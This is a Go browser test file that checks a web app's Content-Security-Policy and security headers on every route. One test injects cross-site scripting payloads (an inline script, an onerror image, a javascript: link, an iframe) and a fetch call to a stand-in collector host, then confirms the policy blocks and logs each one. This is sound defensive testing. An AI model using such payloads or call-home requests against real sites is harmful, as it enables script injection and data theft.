package browser

import (
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/log"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// watch writes down every breach of the city's policy, from before the first script
// on, over all pages of this tab.
const watch = `if (!sessionStorage.getItem("e2e.breaches")) sessionStorage.setItem("e2e.breaches", "");
document.addEventListener("securitypolicyviolation", (e) => {
  const what = e.violatedDirective + " " + (e.blockedURI || "") + " on " + location.pathname + " " + (e.sample || e.sourceFile || "");
  sessionStorage.setItem("e2e.breaches", sessionStorage.getItem("e2e.breaches") + what + "\n");
});`

func (p *phone) watchPolicy() {
	p.t.Helper()
	err := chromedp.Listen(p.page, func(ev any) {
		if e, ok := ev.(*log.EventEntryAdded); ok && e.Entry.Source == log.EntrySourceSecurity {
			p.t.Errorf("%s: console: %s", p.name, e.Entry.Text)
		}
	})
	p.must(err, "listen to the console")
	_, err = chromedp.Call(p.page, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: watch})
	p.must(err, "watch the policy")
}

func (p *phone) breaches() string { return p.eval(`sessionStorage.getItem("e2e.breaches") || ""`) }

// routes is every address of the route table, the patterns with an example.
func routes(t *testing.T) []string {
	t.Helper()
	table, err := os.ReadFile(filepath.Join(root(t), "app", "shell", "shell.go"))
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, m := range regexp.MustCompile(`route\("([^"]+)"`).FindAllStringSubmatch(string(table), -1) {
		all = append(all, m[1])
	}
	for _, m := range regexp.MustCompile(`below\("\^([^\["]+)\[`).FindAllStringSubmatch(string(table), -1) {
		all = append(all, m[1]+map[string]string{"/progress/": "health"}[m[1]])
	}
	if len(all) < 13 {
		t.Fatalf("the route table reads as %v", all)
	}
	for i, path := range all {
		if strings.HasSuffix(path, "/") && path != "/" {
			all[i] += "not-there"
		}
	}
	return all
}

// TestPolicyHoldsOnEveryRoute: the app runs under the strict policy, printed and
// drawn, and no page of it asks for more.
func TestPolicyHoldsOnEveryRoute(t *testing.T) {
	c := startCity(t)
	p := newPhone(t, c, "strict")
	p.watchPolicy()
	for _, path := range routes(t) {
		p.open(path)
		p.alive()
		if got := p.breaches(); got != "" {
			t.Fatalf("%s: %s", path, got)
		}
	}
	signIn(p, "clerk")
	p.open("/staff/triage")
	p.alive()
	if got := p.breaches(); got != "" {
		t.Errorf("as a clerk: %s", got)
	}
}

// TestPolicyStopsScripts: what somebody managed to put into a page does not run,
// and may not call home. It is also the proof that breaches are seen.
func TestPolicyStopsScripts(t *testing.T) {
	c := startCity(t)
	p := newPhone(t, c, "broken-in")
	_, err := chromedp.Call(p.page, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: watch})
	p.must(err, "watch the policy")
	p.open("/progress")
	p.alive()
	p.eval(`(() => {
		const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s);
		const d = document.createElement("div"); d.innerHTML = '<img src="/nothing" onerror="window.ran = 2"><a id="js" href="javascript:window.ran=3">x</a><b style="color:red">x</b>';
		document.body.append(d); document.getElementById("js").click();
		const f = document.createElement("iframe"); f.src = "/progress"; document.body.append(f);
		return "" })()`)
	for _, directive := range []string{"script-src-elem inline", "script-src-attr inline", "style-src-attr inline", "frame-src"} {
		p.see(`(sessionStorage.getItem("e2e.breaches") || "").includes(`+quote(directive)+`)`, directive+" to be a breach")
	}
	p.eval(`fetch("https://collector.invalid/?c=1").catch(() => {}); ""`)
	p.see(`(sessionStorage.getItem("e2e.breaches") || "").includes("connect-src https://collector.invalid")`, "calling elsewhere to be a breach")
	if ran := p.eval(`String(window.ran)`); ran != "undefined" {
		t.Errorf("script %s ran", ran)
	}
}

// TestHeadersOnEveryAnswer: pages, files, answers in JSON and errors alike.
func TestHeadersOnEveryAnswer(t *testing.T) {
	c := startCity(t)
	for _, path := range append(routes(t), "/app.js", "/app-worker.js", "/manifest.webmanifest", "/web/sprite.svg", "/web/none", "/nothing", "/photo/x", "/metrics", "/healthz", "/session", "/sync") {
		resp, err := http.Get("http://" + c.addr + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		for name, part := range map[string]string{"Content-Security-Policy": "default-src 'none'", "X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY",
			"Referrer-Policy": "same-origin", "Permissions-Policy": "geolocation=(self)", "Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin"} {
			if !strings.Contains(resp.Header.Get(name), part) {
				t.Errorf("%s (%d): %s is %q", path, resp.StatusCode, name, resp.Header.Get(name))
			}
		}
	}
}
